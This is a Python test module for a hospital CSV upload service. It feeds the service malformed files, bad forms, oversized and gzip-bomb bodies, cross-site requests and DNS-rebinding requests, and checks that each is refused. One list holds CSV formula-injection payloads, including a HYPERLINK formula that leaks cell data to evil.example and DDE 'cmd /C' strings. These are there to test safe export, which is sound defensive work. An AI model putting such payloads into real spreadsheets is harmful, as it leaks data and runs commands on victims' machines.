"""Malformed and hostile input over real HTTP: a 4xx that names the problem, nothing stored.

Each refusal is followed by the same check: GET /events is still empty and GET /health
still answers 200.
"""

from __future__ import annotations

import asyncio
import csv
import gzip
import io
import json
import logging
import re
import weakref
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from yarl import URL

from service.local_directory import RunningDirectory
from service.web import upload as upload_module
from tests.support import (
    SAMPLE_CSV,
    Service,
    csv_of,
    fast_settings,
    form,
    running_service,
    without_collections,
)

UNKNOWN = "0b7e4c3a-9f1d-4c2e-8a6b-5d4c3b2a1f00"
HEADER = "name,address,phone\n"
GOOD = (HEADER + "General Hospital,123 Main Street,555-0100\n").encode()
BOM = b"\xef\xbb\xbf"
BOUNDARY = "b0undary"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"

Place = tuple[list[Any], str]  # (loc, type) of a problem
HEADERS: Place = (["file", "headers"], "invalid_headers")
ENCODING: Place = (["file", "encoding"], "encoding_error")
EMPTY: Place = (["file", "content"], "empty_file")
NOT_CSV: Place = (["file", "content"], "csv_parse_error")
FILE_NAME: Place = (["file", "filename"], "file_type_error")
NO_FILE: Place = (["body", "file"], "missing")
MULTIPART_ERROR: Place = (["body"], "multipart_error")
# The endpoints that read an upload; validation last, since its answer has a shape of its own.
INTAKE = ("/batch/upload-csv", "/hospitals/bulk", "/batch/validate-csv")


async def assert_nothing_stored(service: Service) -> None:
    """No event was appended and the service still accepts work."""
    status, page = await service.get("/events")
    assert (status, page["events"]) == (200, [])
    status, health = await service.get("/health")
    assert (status, health["status"]) == (200, "healthy")


def message_at(body: dict[str, Any], place: Place) -> str:
    """The message of the problem at `place`, from either error shape; fails if there is none."""
    problems = body["detail"] if "detail" in body else body["errors"]
    loc, kind = place
    found = [p["msg"] for p in problems if p["loc"] == loc and p["type"] == kind]
    assert found, f"no {kind} at {loc} in {problems}"
    return str(found[0])


def part(headers: str, content: bytes) -> bytes:
    return f"--{BOUNDARY}\r\n{headers}\r\n\r\n".encode() + content + b"\r\n"


def file_part(content: bytes, name: str = "file") -> bytes:
    disposition = f'Content-Disposition: form-data; name="{name}"; filename="hospitals.csv"'
    return part(disposition + "\r\nContent-Type: text/csv", content)


def multipart(*parts: bytes) -> bytes:
    """A multipart/form-data body built by hand, so that it can be wrong on purpose."""
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


async def exchange(service: Service, request: bytes) -> tuple[int, bytes]:
    """Send bytes no HTTP client would send, on a connection of their own; (status, response)."""
    url = URL(service.url)
    reader, writer = await asyncio.open_connection(url.host, url.port)
    try:
        writer.write(request)
        response = await asyncio.wait_for(reader.read(), 5)
    finally:
        writer.close()
        await writer.wait_closed()
    return int(response.split(b" ", 2)[1]), response


def raw_post(path: str, body: bytes, header: bytes = b"X-Test: raw") -> bytes:
    """A whole multipart POST, with one header line given as bytes."""
    return (
        (
            f"POST {path} HTTP/1.1\r\nHost: test\r\nConnection: close\r\n"
            f"Content-Type: {MULTIPART}\r\nContent-Length: {len(body)}\r\n"
        ).encode()
        + header
        + b"\r\n\r\n"
        + body
    )


# Files -----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class BadFile:
    content: str | bytes
    place: Place
    says: str
    filename: str


def bad_file(
    case: str, content: str | bytes, place: Place, says: str, filename: str = "hospitals.csv"
) -> Any:
    return pytest.param(BadFile(content, place, says, filename), id=case)


def value(number: int, column: str) -> Place:
    return (["row", number, column], "value_error")


def width(number: int) -> Place:
    return (["row", number], "wrong_column_count")


BAD_FILES = [
    bad_file(
        "wrong-headers", "hospital,location,tel\nA,B,C\n", HEADERS, "found: hospital,location,tel"
    ),
    bad_file("missing-name-column", "address,phone\nB,C\n", HEADERS, "found: address,phone"),
    bad_file("missing-address-column", "name,phone\nA,C\n", HEADERS, "found: name,phone"),
    bad_file(
        "duplicated-column", "name,address,name\nA,B,C\n", HEADERS, "found: name,address,name"
    ),
    bad_file("extra-column", "name,address,phone,email\nA,B,C,D\n", HEADERS, "phone,email"),
    bad_file("no-header-row", GOOD.split(b"\n", 1)[1], HEADERS, "found: General Hospital,123"),
    bad_file("header-of-10000-columns", ",".join(["c"] * 10_000), HEADERS, "(10000 columns)"),
    bad_file("semicolon-separated", "name;address;phone\nA;B;C\n", HEADERS, "name;address;phone"),
    bad_file("json-named-csv", '{"name": "A", "address": "B"}\n', HEADERS, "must be exactly"),
    bad_file("html-named-csv", "<html><body>502</body></html>\n", HEADERS, "found: <html>"),
    bad_file(
        "blank-lines-before-header",
        "\n\n" + HEADER + "A,B,C\n",
        (["file", "headers"], "missing_headers"),
        "the file starts with blank lines",
    ),
    bad_file(
        "blank-name",
        HEADER + "  ,123 Main Street,555\n",
        value(1, "name"),
        "name is required and must be at least 1 character (row 1, line 2)",
    ),
    bad_file(
        "blank-address",
        HEADER + "A,1 Main St,\nB,\t,555\n",
        value(2, "address"),
        "address is required and must be at least 1 character (row 2, line 3)",
    ),
    bad_file(
        "too-many-columns",
        HEADER + "A,1 Main St,555,extra\n",
        width(1),
        "row 1 (line 2) has 4 values, expected 3",
    ),
    bad_file(
        "ragged-rows",
        HEADER + "A,1 Main St,555\nB,2 Oak Ave\nC,3 Elm St,,\n",
        width(3),
        "row 3 (line 4) has 4 values, expected 3",
    ),
    bad_file("row-of-10000-columns", HEADER + "A," * 9_999 + "A\n", width(1), "has 10000 values"),
    bad_file(
        "unterminated-quote",
        HEADER + '"General Hospital,123 Main Street,555\nB,2 Oak Ave,\n',
        NOT_CSV,
        "the record starting on line 2 runs over 2 lines: check that its quotes are closed",
    ),
    bad_file(
        "text-after-closing-quote",
        HEADER + '"General"Hospital,123 Main Street,555\n',
        NOT_CSV,
        "line 2: ',' expected after '\"'",
    ),
    bad_file(
        "value-of-200000-characters",
        HEADER + "A," + "x" * 200_000 + ",555\n",
        NOT_CSV,
        "line 2: a value is longer than 131,072 characters",
    ),
    bad_file("nul-byte", b"name,address\nA\x00B,C\n", ENCODING, "NUL bytes from line 2"),
    bad_file(
        "latin-1",
        "name,address\nHôpital Général,1 Rue\n".encode("latin-1"),
        ENCODING,
        "byte 0xf4 at line 2, column 2",
    ),
    bad_file(
        "utf8-bom-then-latin-1",
        BOM + "name,address\nHôpital,1 Rue\n".encode("latin-1"),
        ENCODING,
        "byte 0xf4 at line 2, column 2",
    ),
    bad_file(
        "utf-16-le-with-bom",
        "\ufeffname,address\nA,B\n".encode("utf-16-le"),
        ENCODING,
        "it looks like UTF-16",
    ),
    bad_file(
        "utf-16-be-with-bom",
        "\ufeffname,address\nA,B\n".encode("utf-16-be"),
        ENCODING,
        "it looks like UTF-16",
    ),
    bad_file(
        "utf-16-without-bom",
        "name,address\nA,B\n".encode("utf-16-le"),
        ENCODING,
        "NUL bytes from line 1",
    ),
    bad_file("binary-png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", ENCODING, "not a UTF-8 text"),
    bad_file("binary-high-bytes", bytes(range(128, 256)), ENCODING, "byte 0x80 at line 1"),
    bad_file("empty-file", b"", EMPTY, "the file is empty"),
    bad_file("only-a-bom", BOM, EMPTY, "the file is empty"),
    bad_file("only-whitespace", " \r\n\t\r\n", EMPTY, "the file is empty"),
    bad_file("header-only", HEADER, EMPTY, "a header but no data rows"),
    bad_file("header-and-empty-rows", HEADER + "\n,,\n\n", EMPTY, "a header but no data rows"),
    bad_file("txt-file-name", GOOD, FILE_NAME, "got 'hospitals.txt'", "hospitals.txt"),
    bad_file("xlsx-file-name", GOOD, FILE_NAME, "got 'hospitals.xlsx'", "hospitals.xlsx"),
    bad_file("file-name-without-extension", GOOD, FILE_NAME, "got 'hospitals'", "hospitals"),
]


@pytest.mark.parametrize("bad", BAD_FILES)
async def test_a_bad_file_is_refused_naming_its_problem(service: Service, bad: BadFile) -> None:
    for path in INTAKE:
        data = form(bad.content, filename=bad.filename)
        async with service.http.post(service.url + path, data=data) as r:
            body = await r.json()
        assert r.status == 422, (path, body)
        assert bad.says in message_at(body, bad.place), path
    assert (body["valid"], body["message"]) == (False, "CSV validation failed")
    await assert_nothing_stored(service)


async def test_every_problem_of_a_file_is_in_one_answer(service: Service) -> None:
    content = HEADER + "A,1 Main St,\n,,555\nB\nC,3 Elm St,\n  ,4 Elm St,\n"
    async with service.http.post(f"{service.url}/batch/upload-csv", data=form(content)) as r:
        body = await r.json()
    assert r.status == 422
    assert [(p["loc"], p["type"]) for p in body["detail"]] == [
        value(2, "name"),
        value(2, "address"),
        width(3),
        value(5, "name"),
    ]
    assert "line 6" in body["detail"][3]["msg"]
    await assert_nothing_stored(service)


# Forms -----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class BadForm:
    body: bytes
    status: int
    place: Place
    says: str
    headers: dict[str, str] = field(default_factory=dict)


def bad_form(
    case: str,
    body: bytes,
    place: Place,
    says: str,
    status: int = 422,
    content_type: str | None = MULTIPART,
    marks: Any = (),
    **headers: str,
) -> Any:
    if content_type is not None:
        headers["Content-Type"] = content_type
    return pytest.param(BadForm(body, status, place, says, headers), id=case, marks=marks)


NAMED_FILE = 'Content-Disposition: form-data; name="file"'
NOTE = part('Content-Disposition: form-data; name="note"', b"hi")
TEXT_FIELD = part(NAMED_FILE, GOOD)
NESTED = part(
    NAMED_FILE + "\r\nContent-Type: multipart/mixed; boundary=in", b"--in\r\n\r\nx\r\n--in--"
)

BAD_FORMS = [
    bad_form("file-field-missing", multipart(file_part(GOOD, "upload")), NO_FILE, "Field requir"),
    bad_form("no-fields-at-all", multipart(), NO_FILE, "Field required: the CSV file"),
    bad_form(
        "extra-field",
        multipart(file_part(GOOD), NOTE),
        (["body", "note"], "extra_forbidden"),
        "unexpected field 'note': send exactly one field, 'file'",
    ),
    bad_form(
        "two-file-fields",
        multipart(file_part(GOOD), file_part(GOOD)),
        (["body", "file"], "extra_forbidden"),
        "a second 'file'",
    ),
    bad_form("file-sent-as-text-field", multipart(TEXT_FIELD), FILE_NAME, "got 'no file name'"),
    bad_form(
        "json-body",
        b'{"file": "name,address"}',
        NO_FILE,
        "send the CSV as multipart/form-data in a field named 'file' "
        "(got Content-Type application/json)",
        content_type="application/json",
    ),
    bad_form(
        "urlencoded-body",
        b"file=name%2Caddress",
        NO_FILE,
        "got Content-Type application/x-www-form-urlencoded",
        content_type="application/x-www-form-urlencoded",
    ),
    bad_form("empty-body", b"", NO_FILE, "multipart/form-data", content_type=None),
    bad_form(
        "no-boundary",
        multipart(file_part(GOOD)),
        MULTIPART_ERROR,
        "boundary missed",
        content_type="multipart/form-data",
    ),
    bad_form("wrong-boundary", b"--x\r\n\r\n--x--\r\n", MULTIPART_ERROR, "starting boundary"),
    bad_form("truncated-body", file_part(GOOD)[:-30], MULTIPART_ERROR, "malformed multipart"),
    bad_form("nested-multipart", multipart(NESTED), MULTIPART_ERROR, "nested multipart bodies"),
    bad_form(
        "part-header-too-long",
        multipart(part("X-Padding: " + "a" * 10_000, GOOD)),
        MULTIPART_ERROR,
        "malformed multipart body: Got more than 8190 bytes",
    ),
    bad_form(
        "part-header-garbled",
        multipart(part("this is not a header", GOOD)),
        MULTIPART_ERROR,
        "malformed multipart body: Invalid HTTP header",
    ),
    bad_form(
        "gzip-that-is-not-gzip",
        b"this is not gzip",
        (["body"], "body_error"),
        "the request body cannot be read: Can not decode content-encoding: gzip",
        status=400,
        **{"Content-Encoding": "gzip", "Connection": "close"},
    ),
    bad_form(
        "filename-star-not-utf8",
        multipart(part(f"{NAMED_FILE}; filename*=utf-8''%ff.csv", GOOD)),
        FILE_NAME,
        "got 'no file name'",
        marks=pytest.mark.filterwarnings("ignore::aiohttp.multipart.BadContentDispositionParam"),
    ),
]


@pytest.mark.parametrize("bad", BAD_FORMS)
async def test_a_bad_form_is_refused_naming_its_problem(service: Service, bad: BadForm) -> None:
    for path in INTAKE:
        async with service.http.post(service.url + path, data=bad.body, headers=bad.headers) as r:
            body = await r.json()
        assert r.status == bad.status, (path, body)
        assert bad.says in message_at(body, bad.place), path
    await assert_nothing_stored(service)


async def test_a_file_name_that_is_not_utf8_is_stored_readable(service: Service) -> None:
    body = multipart(file_part(GOOD)).replace(b"hospitals.csv", b"h\xf4pital.csv")

    status, _ = await exchange(service, raw_post("/batch/upload-csv", body))

    assert status == 202
    _, page = await service.get("/batch")
    [batch] = page["batches"]
    assert batch["file_name"] == "h?pital.csv"
    await service.wait_finished(batch["batch_id"])


@pytest.mark.parametrize(
    ("given", "echoed"),
    [
        pytest.param(b"client-42", rb"client-42", id="kept"),
        pytest.param(b"caf\xe9", rb"[0-9a-f]{32}", id="not-utf8-replaced"),
        pytest.param(b"r" * 200, rb"[0-9a-f]{32}", id="too-long-replaced"),
    ],
)
async def test_a_request_id_is_echoed_only_when_usable(
    service: Service, given: bytes, echoed: bytes
) -> None:
    request = raw_post("/batch/validate-csv", multipart(file_part(GOOD)), b"X-Request-ID: " + given)
    status, response = await exchange(service, request)
    assert status == 200
    assert re.search(rb"\r\nX-Request-ID: " + echoed + rb"\r\n", response)


async def test_an_idempotency_key_over_255_characters_is_refused_before_the_file(
    service: Service,
) -> None:
    # The key is checked first: a file with problems of its own (here no header) is not
    # read, and the answer names the key alone.
    headers = {"Idempotency-Key": "k" * 256}
    async with service.http.post(
        f"{service.url}/batch/upload-csv", data=form("no,header\n"), headers=headers
    ) as r:
        body = await r.json()
    assert r.status == 422
    assert body == {
        "detail": [
            {
                "loc": ["header", "Idempotency-Key"],
                "msg": "Idempotency-Key must be 1 to 255 characters",
                "type": "value_error",
            }
        ]
    }
    await assert_nothing_stored(service)


async def test_an_idempotency_key_that_is_not_utf8_is_refused(service: Service) -> None:
    body = multipart(file_part(GOOD))
    request = raw_post("/batch/upload-csv", body, b"Idempotency-Key: caf\xe9")
    status, answer = await exchange(service, request)
    assert status == 422
    assert b'"loc":["header","Idempotency-Key"]' in answer.replace(b" ", b"")
    assert b"Idempotency-Key must be UTF-8 text" in answer
    await assert_nothing_stored(service)


# Limits ----------------------------------------------------------------------------------------


@pytest.fixture
async def limited(directory: RunningDirectory, db_path: Path) -> AsyncIterator[Service]:
    """The service with csv.max_rows = 5 and csv.max_bytes = 2048."""
    settings = fast_settings(db_path, directory.url).replace(csv={"max_rows": 5, "max_bytes": 2048})
    async with running_service(settings) as service:
        yield service


@pytest.fixture
async def hurried(directory: RunningDirectory, db_path: Path) -> AsyncIterator[Service]:
    """The service with csv.upload_seconds = 0.5 and one upload read at a time."""
    csv_limits = {"upload_seconds": 0.5, "concurrent_uploads": 1}
    async with running_service(fast_settings(db_path, directory.url).replace(csv=csv_limits)) as s:
        yield s


async def stalled_upload(service: Service, path: str) -> tuple[int, dict[str, Any]]:
    """POST a body that stops halfway, its connection left open; (status, JSON answer)."""
    body = multipart(file_part(GOOD))
    url = URL(service.url)
    reader, writer = await asyncio.open_connection(url.host, url.port)
    try:
        writer.write(raw_post(path, body)[: -len(body) // 2])  # Content-Length promises it all
        await writer.drain()
        async with asyncio.timeout(5):
            head = await reader.readuntil(b"\r\n\r\n")
            length = int(re.search(rb"Content-Length: (\d+)", head)[1])  # type: ignore[index]
            answer = await reader.readexactly(length)
    finally:
        writer.close()
        await writer.wait_closed()
    return int(head.split(b" ", 2)[1]), json.loads(answer)


@pytest.mark.parametrize("path", INTAKE)
async def test_a_body_that_stops_arriving_gets_408_and_stores_nothing(
    hurried: Service, path: str
) -> None:
    status, body = await stalled_upload(hurried, path)

    assert status == 408
    assert "within 0.5 s (csv.upload_seconds)" in message_at(body, (["body"], "body_timeout"))
    await assert_nothing_stored(hurried)


async def test_an_upload_past_the_ones_read_at_once_waits_its_turn(hurried: Service) -> None:
    answered: list[str] = []

    async def stalled() -> None:
        status, _ = await stalled_upload(hurried, "/batch/validate-csv")
        answered.append(f"stalled {status}")

    async def whole() -> None:
        async with hurried.http.post(f"{hurried.url}/batch/upload-csv", data=form(GOOD)) as r:
            answered.append(f"whole {r.status}")

    async def not_a_form() -> None:  # refused by its headers alone: it does not wait
        async with hurried.http.post(f"{hurried.url}/batch/upload-csv", data=GOOD) as r:
            answered.append(f"not a form {r.status}")

    first = asyncio.create_task(stalled())
    await asyncio.sleep(0.1)  # its body is being read: the one place is taken
    await asyncio.gather(first, whole(), not_a_form())

    assert answered == ["not a form 422", "stalled 408", "whole 202"]


def exactly(size: int) -> bytes:
    """A valid file of exactly `size` bytes (a long address pads it)."""
    head = (HEADER + "General Hospital,").encode()
    return head + b"x" * (size - len(head) - 2) + b",\n"


async def chunks(data: bytes) -> AsyncIterator[bytes]:
    for start in range(0, len(data), 512):
        yield data[start : start + 512]


def oversized(how: str) -> dict[str, Any]:
    """Keyword arguments of a POST whose file is over the 2048-byte limit."""
    if how == "file-one-byte-over":
        return {"data": form(exactly(2049))}
    if how == "body-over-limit-and-form-overhead":
        return {"data": form(exactly(70_000))}
    if how == "chunked-without-content-length":
        body = multipart(file_part(exactly(4096)))
    else:  # the file fits; the whole body does not
        big_note = part('Content-Disposition: form-data; name="note"', b"x" * 70_000)
        body = multipart(file_part(exactly(100)), big_note)
    return {"data": chunks(body), "headers": {"Content-Type": MULTIPART}}


@pytest.mark.parametrize(
    "how",
    [
        "file-one-byte-over",
        "body-over-limit-and-form-overhead",
        "chunked-without-content-length",
        "another-field-over-the-rest-of-the-allowance",
    ],
)
async def test_a_body_over_max_bytes_is_refused_with_413(limited: Service, how: str) -> None:
    async with limited.http.post(f"{limited.url}/batch/upload-csv", **oversized(how)) as r:
        body = await r.json()
    assert r.status == 413
    assert body["detail"] == [
        {
            "loc": ["file"],
            "msg": "the upload is larger than 2048 bytes (csv.max_bytes); split the file",
            "type": "file_too_large",
        }
    ]
    await assert_nothing_stored(limited)


async def test_another_field_within_the_forms_allowance_is_refused_as_extra(
    limited: Service,
) -> None:
    note = part('Content-Disposition: form-data; name="note"', b"x" * 3000)  # > max_bytes
    form_data = multipart(file_part(exactly(100)), note)
    async with limited.http.post(
        f"{limited.url}/batch/upload-csv", data=form_data, headers={"Content-Type": MULTIPART}
    ) as r:
        body = await r.json()
    assert r.status == 422
    assert [(p["loc"], p["type"]) for p in body["detail"]] == [
        (["body", "note"], "extra_forbidden")
    ]
    await assert_nothing_stored(limited)


async def test_a_form_of_many_fields_is_answered_after_the_first_ten(limited: Service) -> None:
    notes = [part(f'Content-Disposition: form-data; name="note{n}"', b"") for n in range(30)]
    form_data = multipart(*notes, file_part(exactly(100)))
    async with limited.http.post(
        f"{limited.url}/batch/upload-csv", data=form_data, headers={"Content-Type": MULTIPART}
    ) as r:
        body = await r.json()
    assert r.status == 422
    assert [p["loc"] for p in body["detail"]] == [["body", f"note{n}"] for n in range(10)]
    await assert_nothing_stored(limited)


@pytest.mark.parametrize(
    ("path", "schema"),
    [
        ("/batch/upload-csv", "Error"),
        ("/batch/validate-csv", "ValidationResult"),
        ("/hospitals/bulk", "Error"),
    ],
)
async def test_every_intake_documents_the_413_it_answers(
    limited: Service, path: str, schema: str
) -> None:
    async with limited.http.post(limited.url + path, **oversized("file-one-byte-over")) as r:
        assert r.status == 413
    _, spec = await limited.get("/openapi.json")

    documented = spec["paths"][path]["post"]["responses"]["413"]
    assert documented["schema"]["$ref"].endswith(f"/{schema}")


async def test_a_gzip_body_is_limited_once_decompressed(limited: Service) -> None:
    headers = {"Content-Type": MULTIPART, "Content-Encoding": "gzip"}
    small = gzip.compress(multipart(file_part(exactly(2048))))
    bomb = gzip.compress(multipart(file_part(exactly(1_000_000))))
    async with limited.http.post(
        f"{limited.url}/batch/validate-csv", data=small, headers=headers
    ) as r:
        assert r.status == 200
    async with limited.http.post(
        f"{limited.url}/batch/upload-csv", data=bomb, headers=headers
    ) as r:
        assert r.status == 413
    await assert_nothing_stored(limited)


@pytest.mark.parametrize("path", ["/batch/upload-csv", "/batch/validate-csv"])
async def test_more_rows_than_max_rows_are_refused(limited: Service, path: str) -> None:
    async with limited.http.post(limited.url + path, data=form(csv_of(6))) as r:
        body = await r.json()
    assert r.status == 422
    assert message_at(body, (["file", "content"], "too_many_rows")) == (
        "the file has more than 5 data rows; at most 5 are allowed per upload"
    )
    await assert_nothing_stored(limited)


@pytest.mark.parametrize(
    ("content", "rows"),
    [pytest.param(csv_of(5), 5, id="max-rows"), pytest.param(exactly(2048), 1, id="max-bytes")],
)
async def test_a_file_at_the_limits_is_valid(
    limited: Service, content: str | bytes, rows: int
) -> None:
    async with limited.http.post(f"{limited.url}/batch/validate-csv", data=form(content)) as r:
        body = await r.json()
    assert (r.status, body["valid"], body["total_rows"]) == (200, True, rows)


# Accepted input that must stay harmless -------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


async def test_formula_like_values_are_stored_as_text_and_exported_safely(
    service: Service,
) -> None:
    out = io.StringIO()
    csv.writer(out).writerows(
        [["name", "address", "phone"], *([f, "1 Main St", "+1 555 0100"] for f in FORMULAS)]
    )
    accepted = await service.upload(out.getvalue())
    final = await service.wait_finished(accepted["batch_id"])
    assert [h["name"] for h in final["hospitals"]] == FORMULAS

    async with service.http.get(f"{service.url}/batch/{accepted['batch_id']}/results.csv") as r:
        exported = list(csv.DictReader(io.StringIO(await r.text())))
    assert r.status == 200
    assert [row["name"] for row in exported] == ["'" + formula for formula in FORMULAS]
    cells = [cell for row in exported for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


async def test_validation_of_a_good_file_stores_nothing(service: Service) -> None:
    async with service.http.post(f"{service.url}/batch/validate-csv", data=form(SAMPLE_CSV)) as r:
        body = await r.json()
    assert r.status == 200
    assert body == {
        "valid": True,
        "message": "CSV file is valid and ready for processing",
        "total_rows": 3,
        "headers": ["name", "address", "phone"],
        "warnings": [],
    }
    await assert_nothing_stored(service)


DUPLICATES = HEADER + "A,1 Main St,555\nB,2 Oak Ave,\nA,1 Main St,555\n"
DUPLICATE_WARNING = {
    "loc": ["row", 3],
    "msg": "row 3 (line 4) repeats row 1: both will be created",
    "type": "duplicate_row",
}


async def test_validation_warns_about_duplicate_rows(service: Service) -> None:
    async with service.http.post(f"{service.url}/batch/validate-csv", data=form(DUPLICATES)) as r:
        body = await r.json()
    assert (r.status, body["valid"], body["total_rows"]) == (200, True, 3)
    assert body["warnings"] == [DUPLICATE_WARNING]


async def test_duplicate_rows_are_created_as_distinct_hospitals(service: Service) -> None:
    accepted = await service.upload(DUPLICATES)
    assert accepted["warnings"] == [DUPLICATE_WARNING]
    final = await service.wait_finished(accepted["batch_id"])
    assert final["processing_status"] == "completed"
    assert len({h["hospital_id"] for h in final["hospitals"]}) == 3


# Requests to every endpoint -------------------------------------------------------------------

BATCH_ROUTES = [
    pytest.param("GET", "/batch/{}/progress", id="progress"),
    pytest.param("GET", "/batch/{}/status", id="status"),
    pytest.param("GET", "/batch/{}/results.csv", id="results.csv"),
    pytest.param("GET", "/batch/{}/events", id="events"),
    pytest.param("GET", "/batch/{}/ws", id="ws"),
    pytest.param("POST", "/batch/{}/resume", id="resume"),
    pytest.param("DELETE", "/batch/{}", id="delete"),
]


async def assert_bad_batch_id(service: Service, method: str, path: str, batch_id: str) -> None:
    async with service.http.request(method, service.url + path.format(batch_id)) as r:
        body = await r.json()
    assert r.status == 422
    assert body["detail"] == [
        {
            "loc": ["path", "batch_id"],
            "msg": f"batch_id must be a UUID, got {batch_id!r}",
            "type": "uuid_parsing",
        }
    ]
    await assert_nothing_stored(service)


# Braces are outside aiohttp's default pattern for a path segment: a route 404 before.
@pytest.mark.parametrize("batch_id", ["not-a-uuid", "x{y}"])
@pytest.mark.parametrize(("method", "path"), BATCH_ROUTES)
async def test_a_malformed_batch_id_is_refused(
    service: Service, method: str, path: str, batch_id: str
) -> None:
    await assert_bad_batch_id(service, method, path, batch_id)


@pytest.mark.parametrize("batch_id", ["1234", UNKNOWN[:-1] + "g", UNKNOWN + "0", "x" * 80])
async def test_almost_a_uuid_is_refused(service: Service, batch_id: str) -> None:
    await assert_bad_batch_id(service, "GET", "/batch/{}/status", batch_id)


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/batch/upload-csv/"),
        ("GET", f"/batch/{UNKNOWN}/status/?as_of=1"),
        ("DELETE", f"/batch/{UNKNOWN}/"),
    ],
)
async def test_a_trailing_slash_is_redirected_as_fastapi_does(
    service: Service, method: str, path: str
) -> None:
    async with service.http.request(method, service.url + path, allow_redirects=False) as r:
        assert r.status == 307
        assert r.headers["Location"] == path.replace("/?", "?").removesuffix("/")
        assert len(r.headers["X-Request-ID"]) == 32
    await assert_nothing_stored(service)


async def test_a_trailing_slash_on_no_route_is_not_found(service: Service) -> None:
    async with service.http.get(f"{service.url}/batch/upload-csv/") as r:  # POST only
        assert (r.status, await r.json()) == (404, {"detail": "Not Found"})


@pytest.mark.parametrize(("method", "path"), BATCH_ROUTES)
async def test_an_unknown_batch_is_not_found(service: Service, method: str, path: str) -> None:
    async with service.http.request(method, service.url + path.format(UNKNOWN)) as r:
        body = await r.json()
    assert r.status == 404
    assert body == {"detail": f"Batch with ID {UNKNOWN} not found"}
    await assert_nothing_stored(service)


CHANGES = [
    ("POST", "/batch/upload-csv"),
    ("POST", "/hospitals/bulk"),
    ("POST", f"/batch/{UNKNOWN}/resume"),
    ("DELETE", f"/batch/{UNKNOWN}"),
]


async def test_a_change_sent_by_a_page_of_another_site_is_refused(service: Service) -> None:
    """A page of any site can post a form here without asking first (no CORS preflight),
    and a browser names that page in Origin: such a change is refused, nothing stored."""
    for method, path in CHANGES:
        # same-site: a page of another name under the same domain is another origin too.
        for origin, site in (
            ("https://evil.example", "cross-site"),
            ("null", "cross-site"),
            ("https://blog.example", "same-site"),
        ):
            headers = {"Origin": origin, "Sec-Fetch-Site": site}
            async with service.http.request(
                method, service.url + path, data=form(GOOD), headers=headers
            ) as r:
                body = await r.json()
            assert r.status == 403, (method, path, origin, body)
            assert repr(origin) in body["detail"]
    await assert_nothing_stored(service)
    # The service's own pages (/docs) name its own origin; other clients send none.
    accepted = await service.upload(GOOD, headers={"Origin": service.url})
    assert accepted["total_hospitals"] == 1
    # Behind a proxy that rewrites Host (nginx's default), /docs names the public origin:
    # the browser, which no page can overrule, says the request is same-origin.
    public = {"Origin": "https://hospitals.example.org", "Sec-Fetch-Site": "same-origin"}
    accepted = await service.upload(GOOD, headers=public)
    assert accepted["total_hospitals"] == 1


async def test_a_browser_sent_to_a_name_the_service_does_not_know_is_refused(
    directory: RunningDirectory, db_path: Path
) -> None:
    """DNS rebinding: a site points its own name at the service after its page loaded; the
    page's requests are then same-origin, Origin matching Host, and would pass as ours."""
    settings = fast_settings(db_path, directory.url).replace(
        app={"allowed_hosts": ("Hospitals.Example.org",)}
    )
    async with running_service(settings) as service:
        port = URL(service.url).port

        def browser(host: str) -> dict[str, str]:
            return {"Host": host, "Origin": f"http://{host}", "Sec-Fetch-Site": "same-origin"}

        rebound = browser(f"evil.example:{port}")
        for method, path in [*CHANGES, ("GET", "/batch"), ("GET", "/ws")]:
            async with service.http.request(
                method, service.url + path, data=form(GOOD), headers=rebound
            ) as r:
                body = await r.json()
            assert r.status == 403, (method, path, body)
            assert f"host 'evil.example:{port}' refused" in body["detail"]
            assert "app.allowed_hosts" in body["detail"]
        await assert_nothing_stored(service)
        # Addresses, localhost and the names the operator lists are the service's own.
        for host in ("127.0.0.1", "localhost", "app.localhost", "hospitals.example.org."):
            status, _ = await service.get("/batch", headers=browser(f"{host}:{port}"))
            assert status == 200, host
        accepted = await service.upload(GOOD, headers=browser(f"[::1]:{port}"))
        assert accepted["total_hospitals"] == 1
        # A client that is not a browser (curl --resolve, a proxy) may use any name.
        status, _ = await service.get("/batch", headers={"Host": f"evil.example:{port}"})
        assert status == 200


async def test_every_operation_documents_the_403_and_417_any_route_can_answer(
    service: Service,
) -> None:
    """The README promises 403 to a change sent from another site's page and to a browser
    that names a host the service does not know; the spec listed it for the handshakes alone.
    An unknown Expect header is answered 417 on every route: the API fuzz sent one."""
    rebound = {"Host": "evil.example", "Origin": "http://evil.example"}
    status, _ = await service.get("/batch", headers=rebound)
    assert status == 403
    _, spec = await service.get("/openapi.json")

    undocumented = [
        f"{status} from {method.upper()} {path}"
        for path, operations in spec["paths"].items()
        for method, operation in operations.items()
        for status in ("403", "417")
        if status not in operation["responses"]
    ]
    assert undocumented == []
    upload = spec["paths"]["/batch/upload-csv"]["post"]["responses"]["403"]
    assert upload["schema"]["$ref"].endswith("/Error")
    assert "another site" in upload["description"]
    assert "app.allowed_hosts" in spec["paths"]["/batch"]["get"]["responses"]["403"]["description"]


BAD_QUERIES = [
    ("/batch?limit=abc", "limit", "Not a valid integer."),
    ("/batch?limit=0", "limit", "greater than or equal to 1"),
    ("/batch?limit=501", "limit", "less than or equal to 500"),
    ("/batch?status=done", "status", "Must be one of"),
    ("/batch?cursor=not-a-cursor", "cursor", "not a cursor from this API"),
    ("/events?after=x", "after", "Not a valid integer."),
    ("/events?after=-2", "after", "greater than or equal to -1"),
    ("/events?limit=abc", "limit", "Not a valid integer."),
    ("/batch/{id}/events?after=x", "after", "Not a valid integer."),
    ("/batch/{id}/events?limit=100000", "limit", "less than or equal to 1000"),
    ("/batch/{id}/status?as_of=-1", "as_of", "greater than or equal to 0"),
    ("/batch/{id}/status?as_of=abc", "as_of", "Not a valid integer."),
    ("/batch/{id}/status?as_of=1_0", "as_of", "Not a valid integer."),
    ("/batch/{id}/status?as_of=%EF%BC%93", "as_of", "Not a valid integer."),  # a wide 3
    ("/batch/{id}/status?as_of=%203%20", "as_of", "Not a valid integer."),
